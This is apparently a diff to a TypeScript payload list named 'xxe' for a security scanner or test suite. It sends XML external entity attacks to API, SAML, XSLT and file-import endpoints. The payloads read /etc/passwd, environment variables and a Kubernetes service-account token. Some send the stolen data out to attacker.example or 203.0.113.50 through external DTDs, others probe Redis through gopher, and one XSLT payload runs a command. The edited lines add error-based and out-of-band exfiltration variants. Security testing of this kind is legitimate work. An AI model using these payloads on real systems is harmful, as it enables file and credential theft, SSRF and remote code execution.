@@ -474,7 +474,7 @@ const xxe: B[] = [
   x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`) + `<order><id>&xxe;</id><qty>1</qty></order>`),
   x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "http://203.0.113.50/probe">`) + `<order><id>&xxe;</id></order>`),
   x("/xmlrpc", dt("r", `<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;`) + `<r>x</r>`, "text/xml"),
-  x("/api/v1/invoices", dt("r", `<!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://attacker.example/?x=%file;'>">\n  %eval;\n  %exfil;`) + `<r/>`),
+  x("/api/v1/invoices", dt("r", `<!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % dtd SYSTEM "http://attacker.example/exfil.dtd">\n  %dtd;\n  %send;`) + `<r/>`),
   x("/api/v1/documents", `<?xml version="1.0"?>\n<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></doc>`),
   x("/api/v1/documents", lols),
   x("/api/v1/documents", `<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "${"A".repeat(2000)}">]>\n<d>${"&a;".repeat(200)}</d>`),
@@ -494,7 +494,7 @@ const xxe: B[] = [
   x("/api/v1/transform", `<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,'id')"/></xsl:template></xsl:stylesheet>`),
   x("/api/v1/import", dt("x", `<!ENTITY g SYSTEM "gopher://127.0.0.1:6379/_INFO">`) + `<x>&g;</x>`),
   x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://203.0.113.50:8000/ext.dtd">\n<x>&send;</x>`),
-  x("/api/v1/import", dt("x", `<!ENTITY % xxe SYSTEM "file:///etc/passwd">\n  <!ENTITY % err "<!ENTITY &#x25; boom SYSTEM 'file:///nonexistent/%xxe;'>">\n  %err;\n  %boom;`) + `<x/>`),
+  x("/api/v1/import", dt("x", `<!ENTITY % local_dtd SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">\n  <!ENTITY % expr 'aaa)>\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n    &#x25;eval;\n    &#x25;error;\n    <!ELEMENT aa (bb'>\n  %local_dtd;`) + `<x/>`),
   x("/saml/acs", dt("samlp:Response", `<!ENTITY s SYSTEM "file:///etc/passwd">`) + `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&s;</saml:Issuer></samlp:Response>`, "application/samlassertion+xml"),
   x("/api/v1/sitemap", dt("urlset", `<!ENTITY e SYSTEM "file:///proc/self/environ">`) + `<urlset><url><loc>&e;</loc></url></urlset>`),
   x("/api/v1/orders/import", dt("order", `<!ENTITY xxe SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">`) + `<order><note>&xxe;</note></order>`),
@@ -514,7 +514,7 @@ const xxe: B[] = [
   m("/api/v1/translations/import", [{ name: "locale", value: "de" }, { name: "file", filename: "messages.xlf", type: "application/xliff+xml", value: `<?xml version="1.0"?><!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]><xliff version="1.2"><file source-language="en" target-language="de"><body><trans-unit id="1"><source>&x;</source></trans-unit></body></file></xliff>` }]),
   fr("/saml/acs", "SAMLResponse=" + encodeURIComponent(b64(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.50/saml.dtd"> %x;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">idp</saml:Issuer></samlp:Response>`)) + "&RelayState=%2Fdashboard"),
   m("/api/v1/maps/import", [{ name: "file", filename: "route.kml", type: "application/vnd.google-earth.kml+xml", value: `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/hosts">]><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>&e;</name></Placemark></kml>` }]),
-  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b "<!ENTITY c SYSTEM 'http://attacker.example/?%a;'>">%b;]>\n<x>&c;</x>`, "text/xml; charset=utf-8"),
+  x("/api/v1/import", `<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://attacker.example/b.dtd">%b;]>\n<x>&c;</x>`, "text/xml; charset=utf-8"),
   j("/api/v1/import", `{"format":"xlsx-xml","payload":"<?xml version=\\"1.0\\"?><!DOCTYPE x [<!ENTITY e SYSTEM \\"http://203.0.113.50/x\\">]><x>&e;</x>"}`),
 ];
 
